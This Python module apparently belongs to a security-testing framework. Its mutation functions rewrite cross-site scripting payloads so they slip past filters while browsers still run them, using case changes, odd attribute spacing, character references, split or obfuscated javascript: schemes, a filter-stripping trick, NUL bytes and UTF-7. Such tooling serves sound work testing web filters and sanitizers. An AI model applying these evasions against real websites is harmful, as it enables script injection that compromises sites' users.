"""HTML: tags and attributes written as others that a browser reads the same.

Source: the WHATWG HTML standard, 13.2.5 (tokenization) and 13.5 (named character references); WHATWG URL 4.4 (what the
URL parser drops). What only old browsers do is named so.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from random import Random

from .model import Attack, mutation

XSS = ("xss",)

TAG = re.compile(
    r"<(?P<slash>/?)(?P<name>[A-Za-z][^\s/>]*)(?P<rest>(?:\"[^\"]*\"|'[^']*'|[^>\"'])*)(?P<close>>?)", re.DOTALL
)
ATTRIBUTE = re.compile(
    r"""(?P<gap>[\s/]*)(?P<name>[^\s/>=][^\s/>=]*)
        (?:(?P<equals>\s*=\s*)(?:"(?P<double>[^"]*)"|'(?P<single>[^']*)'|(?P<bare>[^\s>]*)))?""",
    re.DOTALL | re.VERBOSE,
)
#: Attributes that hold URLs.
URLS = frozenset(
    ["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "poster", "from", "to", "values"]
)


@dataclass
class Attribute:
    """One attribute as it is written."""

    gap: str
    name: str
    equals: str = ""
    value: str | None = None
    quote: str = ""

    def __str__(self) -> str:
        if self.value is None:
            return f"{self.gap}{self.name}"
        quote = self.quote
        if not quote and (not self.value or re.search(r"[\s\"'`=<>]", self.value)):
            quote = "'" if '"' in self.value else '"'
        if quote and quote in self.value:
            other = "'" if quote == '"' else '"'
            quote, value = (
                (other, self.value) if other not in self.value else (quote, self.value.replace(quote, "&#39;"))
            )
        else:
            value = self.value
        return f"{self.gap}{self.name}{self.equals or '='}{quote}{value}{quote}"

    @property
    def is_handler(self) -> bool:
        """Whether it holds a script."""
        return self.name.lower().startswith("on")

    @property
    def is_url(self) -> bool:
        """Whether it holds a URL that would run."""
        scheme = re.match(r"\s*(java|vb)script:|\s*data:", self.value or "", re.IGNORECASE)
        return self.name.lower() in URLS and scheme is not None


@dataclass
class Tag:
    """One tag as it is written."""

    slash: str
    name: str
    attributes: list[Attribute]
    tail: str = ""
    close: str = ">"
    before: str = field(default="<")

    def __str__(self) -> str:
        inner = "".join(str(a) for a in self.attributes)
        # A bare value would swallow a slash that follows it.
        tail = self.tail
        if self.attributes and self.attributes[-1].value is not None and tail.startswith("/"):
            tail = tail if re.search(r"[\"']$", str(self.attributes[-1])) else f" {tail}"
        return f"{self.before}{self.slash}{self.name}{inner}{tail}{self.close}"


def tag_of(match: re.Match) -> Tag:
    """A tag read from its text."""
    attributes, at, rest = [], 0, match["rest"]
    while found := ATTRIBUTE.match(rest, at):
        value = next((found[g] for g in ("double", "single", "bare") if found[g] is not None), None)
        quote = '"' if found["double"] is not None else "'" if found["single"] is not None else ""
        attributes.append(Attribute(found["gap"], found["name"], found["equals"] or "", value, quote))
        at = found.end()
    return Tag(match["slash"], match["name"], attributes, rest[at:], match["close"])


def tags(attack: Attack, change: Callable[[Tag], object]) -> str:
    """The payload with each tag changed. What a script element holds is no markup."""
    out, at, text = [], 0, attack.payload
    while match := TAG.search(text, at):
        out.append(text[at : match.start()])
        tag = tag_of(match)
        raw = tag.name.lower() == "script" and not tag.slash
        new = change(tag)
        out.append(str(tag if new is None else new))
        at = match.end()
        if raw and (end := re.compile("</script", re.IGNORECASE).search(text, at)):
            out.append(text[at : end.start()])
            at = end.start()
    out.append(text[at:])
    return "".join(out)


def attributes(attack: Attack, change: Callable[[Attribute], None], which: Callable[[Attribute], bool]) -> str:
    """The payload with each attribute of a kind changed, also those of a tag that the page opened itself."""

    def change_tag(tag: Tag) -> None:
        for attribute in tag.attributes:
            if which(attribute):
                change(attribute)

    if "<" in attack.payload:
        return tags(attack, change_tag)
    found = re.match(r"([^\"'<>]*[\"'])(\s.*)", attack.payload, re.DOTALL)
    if not found or "=" not in found[2]:
        return attack.payload
    tag = tag_of(re.match(TAG, f"<x{found[2]}"))
    # What is left open belongs to the page.
    if '="' in tag.tail or tag.close:
        return attack.payload
    change_tag(tag)
    return found[1] + str(tag)[2:]


def tags_only(attack: Attack, change: Callable[[Attribute], None]) -> str:
    """The payload with the attributes of its own tags changed; those of a tag of the page keep their quotes."""
    return attributes(attack, change, lambda a: True) if "<" in attack.payload else attack.payload


def mixed(text: str, rng: Random) -> str:
    """A text in mixed case that is not the one it was."""
    new = "".join(rng.choice((c.lower(), c.upper())) for c in text)
    return text.swapcase() if new == text else new


@mutation("html-case", XSS, "Names of tags and attributes have no case (13.2.5.8, 13.2.5.33).")
def case(attack: Attack, rng: Random) -> str:
    """Names in mixed case."""

    def change(tag: Tag) -> None:
        tag.name = mixed(tag.name, rng)
        for attribute in tag.attributes:
            attribute.name = mixed(attribute.name, rng)

    return tags(attack, change)


def gaps(attack: Attack, choose: Callable[[], str]) -> str:
    """The payload with the blanks between attributes written otherwise."""

    def change(tag: Tag) -> None:
        for i, attribute in enumerate(tag.attributes):
            gap = choose()
            bare = i and tag.attributes[i - 1].value is not None and not re.search("[\"']$", str(tag.attributes[i - 1]))
            # A slash behind a bare value would be a part of it.
            attribute.gap = f" {gap}" if bare and gap[0] == "/" else gap

    return tags(attack, change)


@mutation("html-slashes", XSS, "A slash between attributes is skipped (13.2.5.40).")
def slashes(attack: Attack, rng: Random) -> str:
    """Slashes for blanks."""
    return gaps(attack, lambda: rng.choice(("/", "//", "/ /", "/\t")))


@mutation("html-blanks", XSS, "Tab, line feed, form feed, carriage return and blank part attributes (13.2.5.32).")
def blanks(attack: Attack, rng: Random) -> str:
    """Other blanks."""
    return gaps(attack, lambda: "".join(rng.choice("\t\n\f\r ") for _ in range(rng.randrange(1, 8))))


@mutation("html-equals-blanks", XSS, "Blanks may stand around the = of an attribute (13.2.5.34, 13.2.5.35).")
def equals_blanks(attack: Attack, rng: Random) -> str:
    """Blanks around =."""

    def change(attribute: Attribute) -> None:
        if attribute.value is not None:
            attribute.equals = rng.choice((" = ", "\n=\n", "\t=", "=\f", "= \r\n"))

    return attributes(attack, change, lambda a: True)


@mutation("html-quotes", XSS, "A value may stand in either quotes, or bare (13.1.2.3).")
def quotes(attack: Attack, rng: Random) -> str:
    """Other quotes around values."""

    def change(attribute: Attribute) -> None:
        if attribute.value:
            attribute.quote = rng.choice([q for q in ("", '"', "'") if q != attribute.quote])

    return tags_only(attack, change)


@mutation("html-attributes-more", XSS, "Unknown attributes are kept and do nothing.")
def attributes_more(attack: Attack, rng: Random) -> str:
    """More attributes in front."""

    def change(tag: Tag) -> None:
        if not tag.slash:
            more = rng.choice((" data-x", ' title="a b"', " x=y", " class='a'", ' a=">"', " ="))
            tag.attributes.insert(0, Attribute("", more))

    return tags(attack, change)


@mutation("html-attribute-double", XSS, "Of attributes of the same name the first counts (13.2.5.33).")
def attribute_double(attack: Attack, rng: Random) -> str:
    """The handler given a second time."""

    def change(tag: Tag) -> None:
        for i, attribute in enumerate(tag.attributes):
            if attribute.is_handler and attribute.value is not None:
                tag.attributes.insert(i + 1, Attribute(" ", attribute.name, "=", "x"))
                return

    return tags(attack, change)


@mutation("html-unclosed", XSS, "The > that ends the tag may be the one of the page's next tag.")
def unclosed(attack: Attack, rng: Random) -> str | None:
    """The last tag left open."""
    found = re.search(r"<[A-Za-z][^<>]*\son\w+\s*=\s*[^<>]*>$", attack.payload)
    return None if not found else attack.payload[:-1] + rng.choice((" ", " x", "//", "\n"))


@mutation(
    "html-end-dropped", XSS, "A script runs when its end tag comes, which the page may bring; other elements need none."
)
def end_dropped(attack: Attack, rng: Random) -> str:
    """End tags left out, but for those of scripts."""
    return re.sub(r"</(?!script)[A-Za-z]+\s*>$", "", attack.payload)


@mutation("html-end-noise", XSS, "An end tag may hold blanks and attributes (13.2.5.8).")
def end_noise(attack: Attack, rng: Random) -> str:
    """Noise in end tags."""

    def change(tag: Tag) -> None:
        if tag.slash:
            tag.tail += rng.choice((" ", "\n", " x", "/", " a=b", "\t/"))

    return tags(attack, change)


@mutation("html-doubled-less", XSS, "A < before a tag is text (13.2.5.6).")
def doubled_less(attack: Attack, rng: Random) -> str:
    """A < in front of each tag."""

    def change(tag: Tag) -> None:
        tag.before = "<<"

    return tags(attack, change)


@mutation("html-text-before", XSS, "Text before a tag is text.")
def text_before(attack: Attack, rng: Random) -> str | None:
    """Text and harmless markup in front."""
    if not attack.payload.startswith("<"):
        return None
    heads = ("pear ", "a < b ", "<b>bold</b> ", "<!-- note -->", "&lt;i&gt;", "<p class=x>", "1 < 2 & 3 > 2 ", "<br/>")
    return rng.choice(heads) + attack.payload


@mutation("html-comment-odd", XSS, "A comment ends at -->, --!> and at <!-->  (13.2.5.43 to 13.2.5.52).")
def comment_odd(attack: Attack, rng: Random) -> str | None:
    """Behind a comment that ends in an odd way."""
    if not attack.payload.startswith("<"):
        return None
    return rng.choice(("<!-->", "<!--->", "<!-- x --!>", "<!x>", "<?x>", "</ x>", "<!-- > -->")) + attack.payload


def reference(c: str, rng: Random, *, semicolon: bool = True) -> str:
    """A numeric character reference."""
    end = ";" if semicolon else ""
    forms = (f"&#{ord(c)}", f"&#x{ord(c):x}", f"&#X{ord(c):X}", f"&#{ord(c):07d}", f"&#x{ord(c):06X}")
    return rng.choice(forms) + end


def referenced(attack: Attack, write: Callable[[str], str]) -> str:
    """The payload with the values that run written by character references."""

    def change(attribute: Attribute) -> None:
        attribute.value = write(attribute.value)

    return attributes(attack, change, lambda a: a.value is not None and (a.is_handler or a.is_url))


@mutation("html-references", XSS, "Character references are undone in attribute values (13.2.5.36, 13.2.5.72).")
def references(attack: Attack, rng: Random) -> str:
    """All of a value in numeric references."""
    return referenced(attack, lambda value: "".join(reference(c, rng) for c in value))


@mutation("html-references-some", XSS, "Character references are undone in attribute values (13.2.5.36, 13.2.5.72).")
def references_some(attack: Attack, rng: Random) -> str:
    """Some signs of a value in numeric references."""
    return referenced(attack, lambda v: "".join(reference(c, rng) if rng.random() < 0.4 or c in "(:" else c for c in v))


@mutation(
    "html-references-open",
    XSS,
    "A numeric reference ends at the first sign that is no digit, semicolon or not (13.2.5.80).",
)
def references_open(attack: Attack, rng: Random) -> str:
    """Numeric references without semicolon."""
    return referenced(attack, lambda value: "".join(f"&#{ord(c):07d}" for c in value))


#: Named references of ASCII signs (13.5).
NAMED = {
    "(": "&lpar;", ")": "&rpar;", ":": "&colon;", "\t": "&Tab;", "\n": "&NewLine;", "'": "&apos;", '"': "&quot;",
    "`": "&grave;", "/": "&sol;", ".": "&period;", ",": "&comma;", "=": "&equals;", ";": "&semi;", "+": "&plus;",
    "[": "&lbrack;", "]": "&rsqb;", "{": "&lcub;", "}": "&rcub;", "$": "&dollar;", "<": "&lt;", ">": "&gt;",
}  # fmt: skip


@mutation("html-references-named", XSS, "Named references are undone in attribute values (13.5).")
def references_named(attack: Attack, rng: Random) -> str:
    """Signs of a value by their names."""
    return referenced(attack, lambda value: "".join(NAMED.get(c, c) for c in value))


def schemes(attack: Attack, write: Callable[[str], str]) -> str:
    """The payload with each script scheme written otherwise."""
    return re.sub(r"(?i)(java|vb)script:", lambda m: write(m[0]), attack.payload)


@mutation("html-scheme-case", XSS, "A URL's scheme has no case (URL 4.4).")
def scheme_case(attack: Attack, rng: Random) -> str:
    """Schemes in mixed case."""
    return schemes(attack, lambda scheme: mixed(scheme, rng))


@mutation("html-scheme-tabs", XSS, "The URL parser drops tabs and line ends anywhere (URL 4.4).")
def scheme_tabs(attack: Attack, rng: Random) -> str:
    """Tabs and line ends inside schemes."""

    def change(attribute: Attribute) -> None:
        attribute.value = schemes_split(attribute.value, rng)
        attribute.quote = attribute.quote or '"'

    if "<" in attack.payload:
        return attributes(attack, change, lambda a: a.is_url)
    return schemes_split(attack.payload, rng)


def schemes_split(text: str, rng: Random) -> str:
    """A text with tabs and line ends inside schemes."""
    return re.sub(
        r"(?i)(java|vb)script:", lambda m: "".join(c + rng.choice(("", "\t", "\n", "\r")) for c in m[0]), text
    )


@mutation("html-scheme-controls", XSS, "The URL parser drops controls and blanks in front (URL 4.4).")
def scheme_controls(attack: Attack, rng: Random) -> str:
    """Controls before schemes."""

    def lead(text: str) -> str:
        return "".join(chr(rng.randrange(1, 0x21)) for _ in range(rng.randrange(1, 4))) + text

    def change(attribute: Attribute) -> None:
        attribute.value = lead(attribute.value)
        attribute.quote = attribute.quote or '"'

    if "<" in attack.payload:
        return attributes(attack, change, lambda a: a.is_url)
    return lead(attack.payload) if re.match(r"(?i)(java|vb)script:", attack.payload) else attack.payload


@mutation("html-scheme-references", XSS, "Character references in a URL are undone before the URL is read.")
def scheme_references(attack: Attack, rng: Random) -> str:
    """Schemes with references for a letter, the colon, or a dropped tab."""

    def change(attribute: Attribute) -> None:
        forms = (
            "java&#115;cript&colon;",
            "javascript&#58;",
            "java&Tab;script:",
            "&#106avascript&#x3a;",
            "javas&NewLine;cript:",
        )
        attribute.value = re.sub(r"(?i)javascript:", lambda m: rng.choice(forms), attribute.value)

    return attributes(attack, change, lambda a: a.is_url)


@mutation("html-scheme-percent", XSS, "What follows javascript: is percent-decoded before it runs (HTML 7.4.2.3.2).")
def scheme_percent(attack: Attack, rng: Random) -> str:
    """The script of a URL percent-encoded."""

    def write(match: re.Match) -> str:
        return match[1] + "".join(f"%{ord(c):02x}" if c in "()'`[]{}." else c for c in match[2])

    return re.sub(r"(?i)(javascript:)([^\"'\s>]+)", write, attack.payload)


@mutation("html-scheme-comment", XSS, "A URL's script may begin with a comment; // ends at the encoded line end.")
def scheme_comment(attack: Attack, rng: Random) -> str:
    """A host's shape behind the scheme."""
    return schemes(
        attack, lambda scheme: scheme + rng.choice(("//shop.example/%0a", "/*//shop.example/*/", "//%0d%0a", "0;"))
    )


@mutation("html-image", XSS, "The parser takes `image` for `img` (13.2.6.4.7).")
def image(attack: Attack, rng: Random) -> str:
    """image for img."""
    return re.sub(r"(?i)<img\b", "<image", attack.payload)


@mutation("html-prefix", XSS, "In an SVG, which is XML when it is loaded as a file, any prefix can be HTML's or SVG's.")
def svg_wrapped(attack: Attack, rng: Random) -> str | None:
    """A script inside an svg element."""
    found = re.search(r"(?i)<script[^>]*>[^<]+</script\s*>", attack.payload)
    if not found:
        return None
    return f"{attack.payload[: found.start()]}<svg>{found[0]}</svg>{attack.payload[found.end() :]}"


@mutation("html-nul", XSS, "Internet Explorer up to 9 drops NUL inside tags.")
def nul(attack: Attack, rng: Random) -> str | None:
    """NUL inside names."""

    def change(tag: Tag) -> None:
        if len(tag.name) > 2:
            tag.name = f"{tag.name[:2]}\0{tag.name[2:]}"

    return tags(attack, change)


@mutation(
    "html-removed-once", XSS, "A filter that deletes `<script>`, or the name of a handler, once leaves the attack."
)
def removed_once(attack: Attack, rng: Random) -> str:
    """What such a filter deletes, put into the names."""
    text = re.sub(r"(?i)(<\/?)(scr)(ipt)", r"\1\2<script>\3", attack.payload)
    if text != attack.payload:
        return text
    return re.sub(r"(?i)\b(on)(\w+)(?=\s*=)", r"\1\1\2\2", attack.payload)


@mutation(
    "html-utf-7",
    XSS,
    "Internet Explorer and others read a page without a character set as UTF-7 (RFC 2152).",
    codes=True,
)
def utf_7(attack: Attack, rng: Random) -> str | None:
    """The markup in UTF-7."""
    if "<" not in attack.payload:
        return None
    return attack.payload.replace("+", "+-").replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")
